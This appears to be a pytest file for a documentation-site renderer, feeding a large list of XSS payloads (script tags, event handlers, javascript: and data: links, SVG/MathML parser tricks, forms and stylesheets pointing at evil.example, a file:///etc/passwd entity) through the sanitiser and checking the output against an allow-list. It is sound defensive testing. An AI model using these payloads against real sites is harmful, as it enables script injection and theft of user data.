# ruff: noqa: E501, Q003 - attacks are written as they come
"""Whatever stands in a page, what leaves is on the allow-list: parsed by another parser than the one that cleaned it."""

from html.parser import HTMLParser

import pytest
from sipario_model import EntityRef
from sipario_techdocs.html import TAGS
from sipario_techdocs.site import site

REF = EntityRef("component", "default", "tickets")
ALLOWED = {
    "*": {"class", "id", "title", "lang", "dir", "align"},
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading"},
    "ol": {"start", "reversed"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "col": {"span"},
    "details": {"open"},
    "label": {"for"},
    "input": {"type", "name", "checked", "disabled"},
    "div": {"data-tabs"},
    "span": {"data-linenos"},
    "time": {"datetime"},
}
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)",
    "javascript&#58;alert(1)", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/onload=x>",
    "livescript:x", "mocha:x", "view-source:x", "file:///etc/passwd", "blob:x", "filesystem:x", "feed:javascript:alert(1)",
    "java\\script:alert(1)", "//evil.example\\@x", "\\\\evil.example", "/\\evil.example", "http:javascript:alert(1)",
    "jar:http://x!/", "ws://x", "ms-its:x", "/api/auth/logout", "/api/techdocs/rebuild", "x:y", "%6Aavascript:alert(1)",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/src=x></script>",
    "<<script>alert(1)//<</script>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,x'/></svg>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>", "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=//evil.example><param name=src value=x></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=x>", "<form action=//evil.example><input name=password></form>", "<input type=text autofocus onfocus=alert(1)>",
    "<input type=image src=x formaction=javascript:alert(1)>", "<input type=hidden name=x>", "<input>",
    "<input type=radio name=document>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
    "<style>*{background:url(//evil.example)}</style>", "<style>@import '//evil.example';</style>",
    "<p style='position:fixed;top:0;left:0;width:100%'>x</p>", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=width:expression(alert(1))>x</div>", "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img src=x OnErRoR=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset='//evil.example 1x'>", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>",
    "<img name=getElementById>", "<img id=cookie name=cookie>", "<a id=x name=y href=x></a>", "<a href=x target=_blank onclick=alert(1)>x</a>",
    "<a href=x ping=//evil.example>x</a>", "<a href=x download=y>x</a>", "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)><frame src=x></frameset>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=x>", "<xss onclick=alert(1)>x</xss>", "<custom-element onclick=x>y</custom-element>",
    "<div onpointerenter=alert(1) tabindex=1>x</div>", "<p contenteditable onblur=alert(1)>x</p>", "<p is=x slot=y part=z>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:alert(1)?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<title><img src=x onerror=alert(1)></title>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<noembed><img src=x onerror=alert(1)></noembed>",
    "<p id=root>x</p>", "<p id=__proto__>x</p>", "<p id=mantine-menu>x</p>", "<p class='mantine-Modal-overlay m_123 sipario-x'>x</p>",
    "<div id=\"x\" id='onload=alert(1)'>x</div>", "<a href=\"x\" onmouseover=\"alert(1)\" \"\">x</a>", "<img src=\"`onerror=alert(1)`\">",
    "<img alt='\" onerror=alert(1) x=\"' src=x>", "<a title='\"><script>alert(1)</script>'>x</a>", "<dialog open>x</dialog>", "<portal src=x></portal>",
    "<canvas onclick=x></canvas>", "<center><script>x</script></center>", "<a href=x><a href=javascript:alert(1)>x</a></a>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<math></p><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<p title="<input">a</p><p title="onmouseover=alert(1) x">b</p>', '<p title=\'<input type="checkbox"><img src=x onerror=alert(1)>\'>x</p>',
    '<p title="<input">a</p><input title="onmouseover=alert(1)" type="checkbox"> <p title=" onclick=alert(1) ">b</p>',
    '<label title="<input title=" class="onclick=alert(1)">x</label><input type="radio" name="__tabbed_1" title=" onclick=x ">',
    "<table><caption><svg><title><style></caption><img src=x onerror=alert(1)></table>", "<font color=x>y</font>", "<map><area href=javascript:x></map>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
    "[x](x){: onclick=alert(1) }", "![x](x){ onerror=alert(1) style=position:fixed }", "# H {#root onclick=x}", "`x`{: srcdoc=y }",
    "```html\n<script>alert(1)</script>\n```", "```mermaid\n</pre><script>alert(1)</script>\n```", "```{ .x onload=alert(1) }\ny\n```",
    "!!! note \"<script>alert(1)</script>\"\n    x", "!!! \"x onload=alert(1)\" y\n    x", "??? x \"<img src=x onerror=alert(1)>\"\n    y",
    "=== \"<script>alert(1)</script>\"\n    x", "- [x] <script>alert(1)</script>", "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[x]: \"><script>alert(1)</script>\n\nx", "x\n:   <script>alert(1)</script>", "| a |\n|---|\n| <script>alert(1)</script> |",
    "{++<script>alert(1)</script>++}", "{>>--><script>alert(1)</script><<}", ":smile\" onerror=x:", "==<script>x</script>==",
    "<div markdown=\"1\" onclick=\"x\">\n**x**\n</div>", "https://example.org/<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "> [!NOTE]\n> <script>alert(1)</script>", "[x](/docs/../api/auth/logout)", "[x](//evil.example\\.x)", "![x](data:image/png;base64,AA)",
    "```plantuml format=\"svg\" onload=x\n<script>\n```", "[x](mailto:a@b?subject=<script>)", "`#!html <script>alert(1)</script>`",
]  # fmt: skip
PAYLOADS = [
    *HTML,
    *MARKDOWN,
    *(f'<a href="{scheme}">x</a>' for scheme in SCHEMES),
    *(f'<img src="{scheme}">' for scheme in SCHEMES),
    *(f"[x]({scheme.replace(' ', '%20')})" for scheme in SCHEMES),
]


class Judge(HTMLParser):
    """Notes all that is not allowed."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED["*"] | ALLOWED.get(tag, set()):
                self.found.append(f"<{tag} {name}>")
            self.value(tag, name, value or "")
        if tag == "input" and dict(attrs).get("type") not in ("radio", "checkbox"):
            self.found.append("<input>")

    def value(self, tag: str, name: str, value: str) -> None:
        if name in ("href", "src") and not value.startswith(
            (
                "#",
                "https://",
                "http://",
                "mailto:",
                "/docs/default/component/tickets/",
                "/api/techdocs/static/docs/",
            )
        ):
            self.found.append(f"<{tag} {name}={value}>")
        if name == "id" and value in ("root", "__proto__", "mantine-menu"):
            self.found.append(f"id={value}")
        if name == "class" and ("mantine" in value or "m_" in value or "sipario-" in value):
            self.found.append(f"class={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")


def judged(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.found


def test_the_corpus_is_large() -> None:
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("wrap", ["{}", "x {} y", "- {}", "<div>{}</div>", "<table><tr><td>{}"])
def test_nothing_active_leaves(wrap: str) -> None:
    files = {f"docs/p{number}.md": wrap.format(payload).encode() for number, payload in enumerate(PAYLOADS)}
    pages = site(files, ref=REF).pages
    bad = {PAYLOADS[int(path[1:-3])]: found for path, page in pages.items() if (found := judged(page.html))}
    assert bad == {}
    assert len(pages) == len(PAYLOADS)


def test_cleaning_what_is_clean_changes_nothing() -> None:
    from sipario_techdocs.html import clean  # noqa: PLC0415 - only this test looks behind the page

    files = {f"docs/p{number}.md": payload.encode() for number, payload in enumerate(PAYLOADS)}
    for page in site(files, ref=REF).pages.values():
        assert clean(page.html, lambda link: link) == page.html


def test_the_judge_would_see_an_attack() -> None:
    assert judged('<p onclick="x"><script>x</script><a href="javascript:x">') == [
        "<p onclick>",
        "<script>",
        "<a href=javascript:x>",
    ]
